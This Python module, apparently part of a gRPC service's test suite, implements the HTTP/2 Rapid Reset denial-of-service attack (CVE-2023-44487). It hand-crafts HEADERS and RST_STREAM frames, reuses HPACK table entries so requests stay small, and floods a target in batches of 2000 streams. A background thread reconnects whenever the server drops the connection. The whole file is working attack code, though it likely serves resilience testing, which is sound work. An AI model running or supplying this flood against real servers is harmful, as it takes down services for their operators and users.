"""A peer with a certificate that opens HTTP/2 streams and resets them, as fast as the wire takes it (CVE-2023-44487).
Frames by hand: no client library sends them so. Source: RFC 9113, section 4.1; RFC 7541, section 6."""

import contextlib
import itertools
import os
import pathlib
import socket
import ssl
import struct
import threading

from .client import address, find_method

DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
STREAMS_AT_ONCE = 2000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, prefix):
    """A header field with a literal name; `prefix` 0x40 puts it into the dynamic table, 0 does not."""
    text = b"".join(bytes([len(part)]) + part for part in (name.encode(), value.encode()))
    assert max(len(name), len(value)) < 127
    return bytes([prefix]) + text


def fields(path):
    return ((":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
            ("te", "trailers"), ("content-type", "application/grpc"))


# Of the dynamic table, newest first; the static one has 61 entries.
def headers_first(path):
    return b"".join(literal(name, value, 0x40) for name, value in fields(path))


def headers_again(path):
    count = len(fields(path))
    return bytes(0x80 | (61 + count - i) for i in range(count))


def connect(target, identity="gateway"):
    folder = pathlib.Path(os.environ["DALER_CERT_DIR"]) / identity
    context = ssl.create_default_context(cafile=str(folder / "ca.crt"))
    context.load_cert_chain(str(folder / "tls.crt"), str(folder / "tls.key"))
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    host, port = address(target).split(":")
    connection = context.wrap_socket(socket.create_connection((host, int(port)), 10))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return connection


class Storm:
    """A peer who comes again when its connection is closed; reads what comes, as one that wants to stay would."""

    def __init__(self, target, method, message=None, identity="gateway"):
        self.target, self.identity = target, identity
        self.path = find_method(target, method)[0]
        self.message = message
        self.sent = 0
        self.closed = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _streams(self):
        for number in itertools.count(1, 2):
            block = headers_first(self.path) if number == 1 else headers_again(self.path)
            parts = [frame(HEADERS, END_HEADERS, number, block)]
            if self.message is not None:
                body = b"\0" + struct.pack(">I", len(self.message)) + self.message
                parts.append(frame(DATA, END_STREAM, number, body))
            parts.append(frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL)))
            yield b"".join(parts)

    def _run(self):
        while not self._stop.is_set():
            with contextlib.suppress(OSError):
                with connect(self.target, self.identity) as connection:
                    self._flood(connection)
            self.closed += not self._stop.is_set()

    def _flood(self, connection):
        reader = threading.Thread(target=self._read, args=(connection,), daemon=True)
        reader.start()
        streams = self._streams()
        try:
            while not self._stop.is_set():
                connection.sendall(b"".join(itertools.islice(streams, STREAMS_AT_ONCE)))
                self.sent += STREAMS_AT_ONCE
        finally:
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
            reader.join(10)

    @staticmethod
    def _read(connection):
        with contextlib.suppress(OSError, ValueError):
            while connection.recv(1 << 16):
                pass

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join(20)
